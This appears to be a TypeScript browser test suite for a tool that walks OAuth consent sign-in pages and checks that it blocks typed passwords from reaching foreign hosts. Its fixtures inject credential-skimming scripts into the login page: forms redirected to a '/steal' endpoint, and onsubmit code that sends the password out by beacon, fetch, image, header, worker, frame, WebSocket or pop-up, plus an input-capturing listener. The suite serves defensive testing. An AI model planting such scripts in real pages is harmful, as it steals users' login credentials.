import { sessionIn } from '../../helpers/browser/consent-session.ts'
import { expect, foreign, PATIENT, test, walkFrom } from './browser-test.ts'
import { consentPages, signInPage, USER } from './consent-pages.ts'
import { type Answer, page, type Service, to, type Visit } from './service.ts'

const redirectUri = 'https://client.invalid/callback'
const SECRET = 'c0rrect-horse-battery'
const variables = { ...USER, CONSENT_PASSWORD: SECRET }

/** Somebody else's server: what it is sent, as it came. */
const collector =
  (sent: string[]) =>
  ({ method, url, body }: Visit) => {
    sent.push(`${method} ${url.pathname}${url.search} ${body}`)
    const headers = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }
    return { headers, body: page('Sign in', FIELD) }
  }

const FIELD = '<label>User name <input name="user"></label><label>Password <input type="password"></label>'
const focus = (script: string) => (html: string) =>
  `${html}<script>document.querySelector('[type=password]').onfocus = () => { ${script} }</script>`
const submit = (script: string) => (html: string) =>
  `${html}<script>document.forms[0].onsubmit = (event) => { const pw = document.querySelector('[type=password]').value; ${script} }</script>`

/** Runs a script before the form is sent. */
const sending = (script: string) =>
  submit(
    `event.preventDefault(); const run = async () => { ${script} }; run().catch(() => {}).then(() => event.target.submit())`,
  )

type Alter = (html: string, abroad: string) => string
type Instead = Readonly<Record<string, (visit: Visit) => Answer>>

/** A consent service whose log-in page is altered, and whose user has a password that is told from all other text. */
function pagesWith(alter: Alter, abroad: () => string, instead: Instead = {}) {
  return consentPages({
    redirectUri,
    instead: {
      'GET /sign-in': () => alter(signInPage(), abroad()),
      'POST /sign-in': () => to('/provider', 303, { 'set-cookie': 'signed-in=1; Path=/' }),
      ...instead,
    },
  })
}

/** Ways of a page to lead what is typed to another host, and what is said of it. */
const WAYS: readonly (readonly [
  what: string,
  alter: Alter,
  says: string,
  instead?: (abroad: string) => Instead,
])[] = [
  [
    'a form that goes there',
    (html, abroad) => html.replace('action="/sign-in"', `action="${abroad}/steal"`),
    'nothing is typed at OWN into a form that submits to ABROAD',
  ],
  [
    'a form that goes there, with a field called action',
    (html, abroad) =>
      html.replace('action="/sign-in">', `action="${abroad}/steal"><input type="hidden" name="action">`),
    'nothing is typed at OWN into a form that submits to ABROAD',
  ],
  [
    'a button that sends its form there',
    (html, abroad) => html.replace('<button', `<button formaction="${abroad}/steal"`),
    'nothing is typed at OWN into a form that submits to ABROAD',
  ],
  [
    'a field outside of its form',
    (html, abroad) =>
      html.replace('type="password"', 'type="password" form="f"') +
      `<form id="f" method="post" action="${abroad}/steal"></form>`,
    'nothing is typed at OWN into a form that submits to ABROAD',
  ],
  [
    'a form that goes there once its field has the focus',
    (html, abroad) => focus(`document.forms[0].action = '${abroad}/steal'`)(html),
    'nothing is typed at OWN into a form that submits to ABROAD',
  ],
  [
    'a form that goes there once it is sent',
    (html, abroad) => submit(`document.forms[0].action = '${abroad}/steal'`)(html),
    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a page that goes there once its field has the focus',
    (html, abroad) => focus(`location.href = '${abroad}/next'`)(html),
    'GET ABROAD was not sent from the page at OWN',
  ],
  [
    'a form that is sent on there',
    (html) => html,
    'POST ABROAD with <consent_username#*>, <consent_password#*> was not sent from the page at OWN',
    (abroad) => ({ 'POST /sign-in': () => to(`${abroad}/steal`, 307) }),
  ],
  [
    'an address with what was typed',
    (html, abroad) =>
      submit(
        `event.preventDefault(); location.href = '${abroad}/next?x=' + encodeURIComponent(btoa('nadia:' + pw))`,
      )(html),
    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a pop-up',
    (html, abroad) => submit(`event.preventDefault(); window.open('${abroad}/next?x=' + pw)`)(html),
    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a pop-up that is sent on there',
    (html) => submit(`event.preventDefault(); window.open('/on?x=' + pw)`)(html),
    'GET ABROAD with <consent_password#*> was not sent from the page at OWN',
    (abroad) => ({ '/on': ({ url }) => to(`${abroad}/next${url.search}`) }),
  ],
  [
    'a form in a frame',
    (html, abroad) =>
      submit(
        `event.preventDefault(); document.body.innerHTML = '<iframe name=f></iframe><form target=f method=post enctype=multipart/form-data action="${abroad}/steal"><input name=x></form>'; document.forms[0].x.value = pw; document.forms[0].submit()`,
      )(html),
    'POST ABROAD for a frame with <consent_password#*> was not sent from the page at OWN',
  ],
  [
    'a pop-up without an opener, as a plain link',
    (html, abroad) =>
      submit(`event.preventDefault(); window.open('${abroad}/next', '_blank', 'noopener')`)(html),
    'GET ABROAD was not sent from the page at OWN',
  ],
]

const worded = (says: string, own: Service, abroad: string) =>
  new RegExp(
    says
      .replace(/[.?()[\]/]/g, '\\$&')
      .replace('OWN', own.origin)
      .replace('ABROAD', abroad)
      .replaceAll('*', '[0-9a-f]{6}'),
  )

for (const [what, alter, says, instead] of WAYS)
  test(`${what} leads nothing that was typed to another host`, async ({ hasty, service }) => {
    const sent: string[] = []
    const abroad = foreign(await service(collector(sent)))
    const own = await service(pagesWith(alter, () => abroad, instead?.(abroad)))
    const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
    expect(failure?.reason).toMatch(worded(says, own, abroad))
    expect(failure?.reason).toContain('ALLOWED_HOSTS=http://foreign.test')
    expect(sent).toEqual([])
    expect(JSON.stringify(failure)).not.toContain(SECRET)
  })

test('a page that goes on once its field has the focus gets nothing typed on its next page', async ({
  hasty,
  service,
}) => {
  const typed: string[] = []
  const next = page('Sign in', FIELD).replace(
    '</label>',
    '</label><script>addEventListener("input", ({ target }) => fetch("/typed", { method: "POST", body: target.value }))</script>',
  )
  const own = await service(
    pagesWith(
      (html) => focus("location.href = '/next'")(html),
      () => '',
      {
        '/next': () => next,
        '/typed': ({ body }) => {
          typed.push(body)
          return ''
        },
      },
    ),
  )
  const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
  expect(failure).toBeDefined()
  expect(typed.join()).not.toContain(SECRET)
})

/** Ways of a script to send what was typed while the walk goes on; each is a promise of its end. */
const SCRIPTS: Readonly<Record<string, (abroad: string) => string>> = {
  'a beacon': (abroad) =>
    `navigator.sendBeacon('${abroad}/b', new Blob([JSON.stringify({ pw })])); await fetch('/settled')`,
  'a request': (abroad) =>
    `await fetch('${abroad}/f', { method: 'POST', mode: 'no-cors', body: 'x=' + encodeURIComponent(pw) })`,
  'an image': (abroad) =>
    `await new Promise((end) => { Object.assign(new Image(), { onerror: end, onload: end, src: '${abroad}/i?' + btoa('x' + pw) }) })`,
  'a header': (abroad) => `await fetch('${abroad}/h', { headers: { 'x-pw': pw } })`,
  'a request that is sent on': () => "await fetch('/on', { method: 'POST', body: pw })",
  'a worker': (abroad) =>
    `const code = "fetch('${abroad}/w', { method: 'POST', mode: 'no-cors', body: '" + pw + "' }).finally(() => postMessage(1))"
     const worker = new Worker(URL.createObjectURL(new Blob([code])))
     await new Promise((end) => { worker.onmessage = end })`,
  'a frame': (abroad) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${abroad}/frame' })); await fetch('/settled')`,
}

for (const [what, script] of Object.entries(SCRIPTS))
  test(`what a script sends by ${what} is stopped and named, and the walk goes on`, async ({
    session,
    service,
  }) => {
    const sent: string[] = []
    const abroad = foreign(await service(collector(sent)))
    const own = await service(
      pagesWith(sending(script(abroad)), () => abroad, {
        '/on': () => to(`${abroad}/on`, 307, { 'access-control-allow-origin': '*' }),
      }),
    )
    const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
    expect(walk.redirect).toBe(`${redirectUri}?code=c1&state=s1`)
    expect(sent.filter((line) => !line.startsWith('OPTIONS'))).toEqual([])
    const carried = what === 'a frame' ? [] : [expect.stringMatching(/^<consent_password#[0-9a-f]{6}>$/)]
    expect(walk.strays).toContainEqual(
      expect.objectContaining({ from: own.origin, to: abroad, carries: carried }),
    )
    expect(JSON.stringify(walk)).not.toContain(SECRET)
  })

test('what goes by WebSocket is named as sent', async ({ session, service }) => {
  const abroad = foreign(await service(() => undefined)).replace('http', 'ws')
  const own = await service(
    pagesWith(
      (html) => submit(`new WebSocket('${abroad}/ws?x=' + pw)`)(html),
      () => abroad,
    ),
  )
  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
  expect(walk.strays).toMatchObject([
    { method: 'WebSocket', to: abroad, isSent: true, carries: [expect.any(String)] },
  ])
})

test('what a page loads from other hosts without what was typed comes', async ({ session, service }) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) => `${html}<link rel="stylesheet" href="${abroad}/style.css?v=1"><img src="${abroad}/logo.png">`,
      () => abroad,
    ),
  )
  const walk = await session.walk(walkFrom(own, { redirectUri, variables }))
  expect(walk.redirect).toContain('code=c1')
  expect(walk.strays).toBeUndefined()
  expect(sent.map((line) => line.split(' ')[1]).sort()).toEqual(['/logo.png', '/style.css?v=1'])
})

test('what goes wrong after a document of a frame was stopped is blocked by that, and not the fault of the page', async ({
  hasty,
  service,
}) => {
  const abroad = foreign(await service(() => page('Confirm', '<button>Confirm</button>')))
  const own = await service(
    pagesWith(
      (html) => html,
      () => abroad,
      { 'POST /consent': () => page('One more thing', `<iframe src="${abroad}/confirm"></iframe>`) },
    ),
  )
  const { failure } = await hasty.walk(walkFrom(own, { redirectUri, variables }))
  expect(failure).toMatchObject({ kind: 'blocked' })
  expect(failure?.reason).toMatch(
    worded('GET ABROAD for a frame was not sent from the page at OWN', own, abroad),
  )
})

test('the redirect of a pop-up does not reach the application', async ({ session, service }) => {
  const client = await service(() => 'the client')
  const callback = `${foreign(client)}/callback`
  const own = await service(({ path }) =>
    path === '/authorize'
      ? page('Welcome', '<button onclick="window.open(\'/on\')">Sign in</button>')
      : to(`${callback}?code=c1&state=s1`),
  )
  const journeys = { signIn: { steps: [{ click: { role: 'button', name: 'Sign in' } }] } }
  const walk = await session.walk(walkFrom(own, { redirectUri: callback, journeys }))
  expect(walk.redirect).toBe(`${callback}?code=c1&state=s1`)
  expect(walk.strays).toBeUndefined()
  expect(client.visits).toEqual([])
})

test('a value that is short is found in what is sent, and not taken for a word of an address', async ({
  session,
  service,
}) => {
  const sent: string[] = []
  const abroad = foreign(await service(collector(sent)))
  const own = await service(
    pagesWith(
      (html) =>
        `${submit(`navigator.sendBeacon('${abroad}/b', 'pin=' + pw)`)(html)}<img src="${abroad}/4711/logo.png">`,
      () => abroad,
    ),
  )
  const short = { ...USER, CONSENT_PASSWORD: '4711' }
  const walk = await session.walk(walkFrom(own, { redirectUri, variables: short }))
  expect(walk.strays).toMatchObject([{ method: 'POST', carries: [expect.any(String)] }])
  expect(sent).toEqual(['GET /4711/logo.png '])
})

test.describe('by events', () => {
  for (const [what, alter, says, instead] of WAYS.filter(([what]) => !what.includes('sent on')))
    test(`${what} leads nothing that was typed to another host`, async ({ chrome, service }) => {
      const sent: string[] = []
      const abroad = foreign(await service(collector(sent)))
      const own = await service(pagesWith(alter, () => abroad, instead?.(abroad)))
      const context = await chrome.newContext()
      const session = await sessionIn(context, { ...PATIENT, pageTimeout: 2500 }, { by: 'events' })
      const { failure } = await session.walk(walkFrom(own, { redirectUri, variables }))
      await session.close()
      expect(failure?.reason).toMatch(worded(says, own, abroad))
      expect(sent).toEqual([])
    })

  test('where a redirect leads is told as sent', async ({ chrome, service }) => {
    const abroad = foreign(await service(collector([])))
    const instead = { 'POST /sign-in': () => to(`${abroad}/steal`, 307) }
    const own = await service(
      pagesWith(
        (html) => html,
        () => abroad,
        instead,
      ),
    )
    const session = await sessionIn(await chrome.newContext(), PATIENT, { by: 'events' })
    const { failure } = await session.walk(walkFrom(own, { redirectUri, variables }))
    await session.close()
    expect(failure?.reason).toMatch(
      worded(
        'POST ABROAD with <consent_username#*>, <consent_password#*> was sent from the page at OWN and could not be stopped',
        own,
        abroad,
      ),
    )
  })
})
